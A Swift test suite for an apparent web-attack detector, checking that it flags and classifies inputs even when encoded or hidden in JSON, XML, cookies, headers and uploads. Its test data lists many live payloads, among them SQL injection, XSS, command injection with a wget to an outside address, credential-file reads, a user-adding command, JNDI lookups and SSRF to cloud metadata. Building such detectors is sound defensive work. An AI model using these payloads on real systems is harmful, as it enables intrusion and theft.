import AllocationCounter
import Bytes
import Rollups
import Testing

@testable import Detection

@Suite("Values that go on as another language does are attacks")
struct InjectionTests {
  static let attacks: [(AttackClasses, String)] =
    [
      "1' or '1'='1", "1 or 1=1", "admin'--", "x' and 5=(select count(*) from users)-- ", "-1 union select 1,2,3",
      "1;drop table users", "1' order by 5#", "1 and sleep(5)", "') or ('a'='a", "\" or \"\"=\"", "1'||(select 'a')||'",
      "1'; waitfor delay '0:0:5'--", "1/**/union/**/select/**/null", "1 /*!50000union*/ select 2", "1' having 1=1--",
      "1 procedure analyse(extractvalue(1,concat(0x3a,version())),1)", "' or true--", "1) or (1=1",
    ].map { (.sqlInjection, $0) }
    + [
      "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert`1`>", "javascript:alert(1)",
      "\" onmouseover=\"alert(1)", "';alert(1)//", "<a href=\"java\tscript:alert(1)\">x</a>",
      "<ScRiPt src=//x.example>",
      "<iframe srcdoc=\"<script>1</script>\">", "&lt;script&gt;alert(1)&lt;/script&gt;", "<body onload=x()>",
    ].map { (.crossSiteScripting, $0) }
    + ["../../../../etc/hosts", "..\\..\\..\\windows\\win.ini", "....//....//etc/group", "..%2f..%2f..%2fx"].map {
      (.pathTraversal, $0)
    }
    + ["/etc/passwd", "php://filter/resource=index", "c:\\boot.ini", "expect://id"].map { (.fileInclusion, $0) }
    + [
      ";id", "| cat /etc/hosts", "`whoami`", "$(uname -a)", "a && ls -la", "x;wget http://198.51.100.1/a",
      "||ping -c 3 ::1",
      ";c'a't /etc/group", "cat${IFS}/etc/group", "& ipconfig /all", "() { :;}; /bin/id", "<!--#exec cmd=\"ls\"-->",
      "<?php system('x'); ?>",
    ].map { (.commandInjection, $0) }
    + ["{{7*7}}", "{{''.__class__}}", "<%= 7*7 %>", "#{7*7}"].map { (.templateInjection, $0) }
    + ["${jndi:ldap://a.example/x}", "${${lower:j}ndi:${::-l}dap://a}", "%{(#_memberAccess=1)}"].map {
      (.expressionInjection, $0)
    }
    + ["{\"$gt\":\"\"}", "'||this.a==this.b||'"].map { (.noSQLInjection, $0) }
    + ["<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hosts\">]>"].map { (.xmlExternalEntity, $0) }
    + ["http://169.254.169.254/latest/", "gopher://127.0.0.1:6379/_x", "http://2130706433/", "http://[::1]/"].map {
      (.serverSideRequestForgery, $0)
    }
    + ["x\r\nSet-Cookie: a=b", "x\nLocation: http://a.example/"].map { (.headerInjection, $0) }
    + ["rO0ABXNyABFqYXZhLnV0aWwu", "O:8:\"stdClass\":0:{}", "__proto__[x]"].map { (.deserialization, $0) }
    + ["*)(uid=*))(|(uid=*"].map { (.ldapInjection, $0) }
    + ["..0x5c..0x5c..0x5cwindows", "........................oot.ini", "..2f..2f..2fvar2flog", "/./././././x"].map {
      (.pathTraversal, $0)
    }
    + [
      "fopen (x)", "(\"system\")(\"id\")", "& net localgroup administrators x /add", "for /f %a in (x) do echo %a",
      "/???/??t /x",
    ].map { (.commandInjection, $0) }
    + ["java.lang.Runtime", "x.evil.invokertransformer"].map { (.expressionInjection, $0) }
    + ["%n%n%n%n", "%s%s%s%s%s", String(repeating: "A", count: 400)].map { (.protocolAbuse, $0) }
    + [
      "1 and ascii(substring((select y=1...3()),1,1))>x", "-1 union select all 1,2,3",
      "1 or 1=(select top 1 a b from c",
      "1',iif(2=2,1,1/0)", "a '<' b", "7' mod '2", "((2) or ((2 or 3)))--", "9' in boolean mode) order by 1#",
      "x';f(4821=4821,1,0)", "0 or char(65)+char(66)+char(67)",
      "' insert into shop.user (name, secret) values ('a', 'b') --", "(777=778)*5",
    ].map { (.sqlInjection, $0) }
    + [
      "<x onabc=1>", "<div datasrc=#a datafld=b></div>", "<a href=j&Tab;a&NewLine;vascript:alert(1)>",
      "<?xml:namespace prefix=\"t\">",
    ].map { (.crossSiteScripting, $0) }
    + ["/../{file}"].map { (.pathTraversal, $0) }
    + ["/proc/loadavg", "/sys/class/net", ".ssh/authorized_keys", "../.htpasswd", "wp-config.php"].map {
      (.fileInclusion, $0)
    }
    + ["; net view", "net user eve Secret1 /add", "type %SYSTEMROOT%\\repair\\sam", "x;id\\n"].map {
      (.commandInjection, $0)
    }
    + ["db.orders.drop()", "';return 'b'=='b' && ''=='", "' } ], $comment:'x'"].map { (.noSQLInjection, $0) }
    + ["http://0x7f.0x0.0x0.0x1/"].map { (.serverSideRequestForgery, $0) }
    + [
      "http://evil.example\\www.shop.example", "https://evil.example:80?@shop.example/", "http://evil\u{3002}example/",
    ]
    .map { (.openRedirect, $0) }

  @Test(arguments: attacks)
  func eachClassIsFoundAndNamed(wanted: AttackClasses, text: String) {
    var judge = Judge()
    for verdict in [judge.parameter(text), judge.form(text)] {
      #expect(verdict.score >= 50, "\(verdict.score) \(text)")
      #expect(verdict.classes.contains(wanted), "\(verdict.classes.list) \(text)")
      #expect(verdict.ruleCount > 0)
    }
  }

  @Test(arguments: attacks)
  func doubleEncodingAndBase64DoNotHide(wanted: AttackClasses, text: String) {
    var judge = Judge()
    #expect(judge.target("/page?q=" + Judge.encoded(Judge.encoded(text))).score >= 50, "\(text)")
  }

  @Test func payloadsAreFoundWhereverARequestCarriesThem() {
    var judge = Judge()
    let json = Array("{\"a\":{\"b\":[1,\"x' or '1'='1\"]}}".utf8)
    #expect(judge.request(target: [0x2f], method: .post, body: json).score >= 50)
    #expect(judge.request(target: [0x2f], cookie: Array("id=3; t=1'+or+1=1--".utf8)).score >= 50)
    #expect(judge.request(target: [0x2f], agent: Array("() { :;}; /bin/id".utf8)).score >= 50)
    #expect(judge.request(target: [0x2f], referrer: Array("${jndi:ldap://a.example/}".utf8)).score >= 50)
    #expect(judge.request(target: [0x2f], agent: Array("cat /etc/passwd".utf8)).score >= 50)
    #expect(judge.request(target: [0x2f], cookie: Array("java.lang.Runtime=1".utf8)).score >= 50)
    #expect(
      judge.request(target: [0x2f], referrer: Array("http://x.example/<script>alert(1)</script>".utf8)).score >= 50)
    #expect(judge.target("/a.php?mosConfig_absolute_path=http://x.example/").score >= 50)
    for xml in [
      "<?xml version=\"1.0\"?><order><name>x' or '1'='1</name></order>",
      "<order note=\"1;cat /etc/hosts\"><n>2</n></order>", "<a><![CDATA[<script>alert(1)</script>]]></a>",
      "<a><b>&lt;svg onload=alert(1)&gt;</b></a>", "<a b='PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='/>",
    ] {
      #expect(judge.request(target: [0x2f], method: .post, body: Array(xml.utf8)).score >= 50, "\(xml)")
    }
    #expect(judge.target("/a?user[$ne]=1").classes.contains(.noSQLInjection))
    let part = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php 1;\r\n--b--\r\n"
    let upload = judge.request(
      target: [0x2f], method: .post, contentType: Array("multipart/form-data; boundary=b".utf8), body: Array(part.utf8))
    #expect(upload.classes.contains(.fileUpload) && upload.score >= 50)
  }

  @Test func theSameRequestGetsTheSameVerdictFromAColdAndAWarmCache() {
    var warm = Judge()
    for (_, text) in Self.attacks { _ = warm.parameter(text) }
    for (_, text) in Self.attacks {
      var cold = Judge()
      #expect(cold.parameter(text) == warm.parameter(text))
    }
  }

  /// Looking back from the first token of a value once went before the start.
  @Test func aValueThatBeginsWithTheNameOfACatalogueIsRead() {
    for value in ["information_schema.tables", "mysql.user", "sys.objects)", "'information_schema.columns", ".a.b"] {
      var judge = Judge()
      _ = judge.parameter(value)
    }
  }

  @Test func randomBytesDoNotTrap() {
    var seed: UInt64 = 20_260_102
    let alphabet = Array("''\"\"<>()[]{};|&`$%=#-*/\\ .,:+@\0\r\n\tseldroupaxt0123".utf8) + [0xc0, 0xaf, 0xff]
    var judge = Judge()
    for _ in 0..<20_000 {
      let bytes = (0..<Int(splitMix(&seed) % 80)).map { _ in alphabet[Int(splitMix(&seed) % UInt64(alphabet.count))] }
      _ = judge.request(
        target: Array("/x?y=".utf8) + bytes, agent: bytes, referrer: bytes, cookie: bytes, method: .post, body: bytes)
    }
  }

  @Test func nothingIsAllocatedForARequestAfterWarmUp() {
    let target = Array("/page?id=1'%20union%20select%201,2--&x=<script>&y=;cat%20/etc/passwd&z=${jndi:x}".utf8)
    let none: [UInt8] = []
    var inspector = RequestInspector()
    var tally = EvidenceTally()
    inspector.inspectTarget(target.span.bytes, into: &tally)
    let before = allocation_count()
    for _ in 0..<50 { inspector.inspectTarget(target.span.bytes, into: &tally) }
    #expect(allocation_count() == before)
    #expect(none.isEmpty && tally.any)
  }
}
